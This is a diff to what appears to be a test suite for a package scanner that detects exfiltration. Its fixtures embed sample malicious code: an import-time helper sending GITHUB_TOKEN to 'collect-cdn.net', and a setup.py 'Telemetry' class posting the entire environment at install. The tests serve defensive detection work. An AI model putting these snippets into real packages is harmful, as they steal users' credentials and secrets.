@@ -1928,6 +1928,59 @@ def test_an_api_token_sent_on_request_to_its_service_is_not_exfiltration():
     assert result.verdict not in FLAGGED
 
 
+# -- a secret read by one helper and sent by another ------------------------------------------
+
+_HELPER_SEND = """
+import os
+
+import requests
+
+
+def _token():
+    return os.environ.get("GITHUB_TOKEN")
+
+
+def _send(value):
+    requests.post("https://collect-cdn.net/u", data={"t": value}, timeout=5)
+
+
+"""
+
+
+def test_a_secret_handed_to_a_sending_helper_on_import_is_exfiltration():
+    init = _HELPER_SEND + "_send(_token())\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert "critical" in severities(result, "intent.exfiltration")
+    assert result.verdict == "malicious"
+
+
+def test_the_environment_handed_to_a_sending_method_at_install_is_exfiltration():
+    setup = (
+        "import os, urllib.request\n"
+        "class Telemetry:\n"
+        "    def push(self, blob):\n"
+        '        urllib.request.urlopen("https://collect-cdn.net/t", blob)\n'
+        "    def report(self):\n"
+        "        self.push(repr(dict(os.environ)).encode())\n"
+        "Telemetry().report()\n" + SETUP
+    )
+    result = scan({"setup.py": setup})
+    assert "critical" in severities(result, "intent.exfiltration")
+
+
+def test_a_sending_helper_given_the_users_message_is_not_exfiltration():
+    init = _HELPER_SEND + '_send("started")\n'
+    result = scan({"setup.py": SETUP, "demo/__init__.py": init})
+    assert not found(result, "intent.exfiltration")
+
+
+def test_an_api_token_handed_to_a_client_helper_on_request_is_not_exfiltration():
+    src = _HELPER_SEND + "def sync():\n    _send(_token())\n"
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/api.py": src})
+    assert not found(result, "intent.exfiltration")
+    assert result.verdict not in FLAGGED
+
+
 # -- mail sent through an SMTP connection is sent over the network ---------------------------
 
 
